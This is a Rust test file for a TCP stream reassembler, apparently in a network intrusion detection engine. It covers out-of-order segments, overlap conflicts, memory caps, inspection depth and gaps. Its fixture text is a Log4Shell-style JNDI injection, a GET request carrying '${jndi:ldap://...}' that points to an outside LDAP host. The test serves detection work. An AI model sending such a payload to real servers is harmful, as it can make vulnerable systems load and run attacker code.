use super::*;

/// One direction being reassembled, and every byte it delivered in order.
struct Dir {
    r: Reassembler,
    dir: StreamDir,
    held: Vec<Held>,
    out: Vec<u8>,
    delivered: Vec<u8>,
}

impl Dir {
    fn new(config: StreamConfig) -> Dir {
        Dir {
            r: Reassembler::new(config),
            dir: StreamDir::default(),
            held: Vec::new(),
            out: Vec::new(),
            delivered: Vec::new(),
        }
    }

    /// Takes `payload` at `seq`: what became of it.
    fn seg(&mut self, seq: u32, payload: &[u8]) -> Taken {
        let seg = Segment {
            seq,
            syn: false,
            payload,
        };
        let t = self
            .r
            .take(&mut self.dir, &mut self.held, seg, 64, &mut self.out);
        if t.new > 0 {
            assert_eq!(self.out.len(), t.seen + t.new);
            self.delivered.extend_from_slice(&self.out[t.seen..]);
        }
        t
    }
}

const TEXT: &[u8] = b"GET /?x=${jndi:ldap://203.0.113.9/a} HTTP/1.1\r\nHost: victim\r\n\r\n";

/// `TEXT` from sequence number `isn`, cut into `n`-byte segments.
fn segments(isn: u32, n: usize) -> Vec<(u32, &'static [u8])> {
    TEXT.chunks(n)
        .enumerate()
        .map(|(i, c)| (isn.wrapping_add((i * n) as u32), c))
        .collect()
}

#[test]
fn segments_in_any_order_deliver_the_stream_once_in_order() {
    // Near the sequence space's wrap as well as far from it.
    for isn in [1000, u32::MAX - 20] {
        for n in [1, 3, 7] {
            let segs = segments(isn, n);
            let k = segs.len();
            let orders: Vec<Vec<usize>> = vec![
                (0..k).collect(),
                // After the handshake the stream's start is known: wholly reversed.
                (0..k).rev().collect(),
                // The first segment first (it starts the stream), then the rest reversed.
                std::iter::once(0).chain((1..k).rev()).collect(),
                {
                    let mut shuffled: Vec<usize> = (0..k).collect();
                    shuffled[1..].sort_by_key(|i| (i * 7919) % 101);
                    shuffled
                },
            ];
            for order in orders {
                let mut d = Dir::new(StreamConfig::default());
                let syn = Segment {
                    seq: isn.wrapping_sub(1),
                    syn: true,
                    payload: b"",
                };
                d.r.take(&mut d.dir, &mut d.held, syn, 64, &mut d.out);
                for &i in &order {
                    let (seq, p) = segs[i];
                    d.seg(seq, p);
                    // Data sent twice delivers nothing more.
                    d.seg(seq, p);
                }
                assert_eq!(d.delivered, TEXT, "isn {isn} n {n} {order:?}");
                assert!(d.held.is_empty());
                assert_eq!(d.r.counters.memuse, 0);
                assert_eq!(d.r.counters.overlap_conflicts, 0);
            }
        }
    }
}

#[test]
fn the_segment_that_fills_a_gap_delivers_what_was_held() {
    let mut d = Dir::new(StreamConfig::default());
    assert_eq!(d.seg(1, b"GET /?x=").new, 8);
    // Two later segments come first: held, nothing new.
    assert_eq!(d.seg(13, b"di:ldap").new, 0);
    assert_eq!(d.seg(20, b"://x").new, 0);
    assert_eq!(d.r.counters.out_of_order, 2);
    assert!(d.r.counters.memuse > 0);
    // The missing one delivers all three, after the kept window.
    let t = d.seg(9, b"${jn");
    assert_eq!((t.seen, t.new), (8, 15));
    assert_eq!(&d.out[..], b"GET /?x=${jndi:ldap://x");
    assert_eq!(d.r.counters.memuse, 0);
}

#[test]
fn data_sent_again_with_other_bytes_is_a_conflict_and_the_first_bytes_stand() {
    let mut d = Dir::new(StreamConfig::default());
    d.seg(1, b"harmless");
    let t = d.seg(1, b"${jndi:l");
    assert!(t.conflict && t.new == 0);
    // A partial overlap: the old part differs, the new part is still delivered.
    let t = d.seg(5, b"XXXXmore");
    assert!(t.conflict);
    assert_eq!(d.delivered, b"harmlessmore");
    assert_eq!(d.r.counters.overlap_conflicts, 2);
}

#[test]
fn overlapping_held_segments_keep_the_data_the_policy_names() {
    for (policy, want) in [
        (StreamOverlap::First, &b"0123abcd89"[..]),
        (StreamOverlap::Last, &b"0123ABCD89"[..]),
    ] {
        let mut d = Dir::new(StreamConfig {
            overlap_policy: policy,
            ..StreamConfig::default()
        });
        d.seg(1, b"0");
        assert!(!d.seg(5, b"abcd89").conflict);
        assert!(d.seg(5, b"ABCD").conflict);
        d.seg(2, b"123");
        assert_eq!(d.delivered, want, "{policy:?}");
    }
}

#[test]
fn the_memory_cap_refuses_what_would_pass_it() {
    let mut d = Dir::new(StreamConfig {
        memcap: 200,
        ..StreamConfig::default()
    });
    d.seg(1, b"a");
    assert!(!d.seg(10, &[b'x'; 100]).memcap);
    assert!(d.seg(300, &[b'y'; 100]).memcap);
    assert_eq!(d.r.counters.memcap_hits, 1);
    assert!(d.r.counters.memuse <= 200);
}

#[test]
fn past_the_depth_the_stream_is_no_longer_inspected() {
    let mut d = Dir::new(StreamConfig {
        depth: 10,
        ..StreamConfig::default()
    });
    assert_eq!(d.seg(1, b"01234567").new, 8);
    assert_eq!(d.seg(9, b"89abcdef").new, 2);
    assert!(d.dir.finished());
    assert_eq!(d.seg(17, b"ghij").new, 0);
    assert_eq!(d.delivered, b"0123456789");
    assert_eq!(d.r.counters.depth_reached, 1);
}

#[test]
fn an_acknowledged_gap_is_counted_and_inspection_resumes_after_it() {
    let mut d = Dir::new(StreamConfig::default());
    d.seg(1, b"0123");
    // Bytes 5..9 are never seen; 9.. is held.
    assert_eq!(d.seg(9, b"89").new, 0);
    d.r.acknowledge(&mut d.dir, &d.held, 11);
    assert_eq!(d.r.counters.gaps, 1);
    let t = d.seg(11, b"ab");
    assert_eq!(t.seen, 0, "nothing joins across the gap");
    assert_eq!(&d.out[..], b"89ab");
}

#[test]
fn a_syn_carries_data_from_one_past_its_sequence_number() {
    let mut d = Dir::new(StreamConfig::default());
    let syn = Segment {
        seq: 99,
        syn: true,
        payload: b"GET /",
    };
    let t = d.r.take(&mut d.dir, &mut d.held, syn, 64, &mut d.out);
    assert_eq!(t.new, 5);
    // The next segment follows the SYN's data.
    assert_eq!(d.seg(105, b"?x").new, 2);
    assert_eq!(&d.out[..], b"GET /?x");
}

#[test]
fn midstream_pickup_off_leaves_the_stream_uninspected() {
    let mut d = Dir::new(StreamConfig {
        midstream: false,
        ..StreamConfig::default()
    });
    assert_eq!(d.seg(1, b"abc").new, 0);
    assert!(d.dir.finished());
}
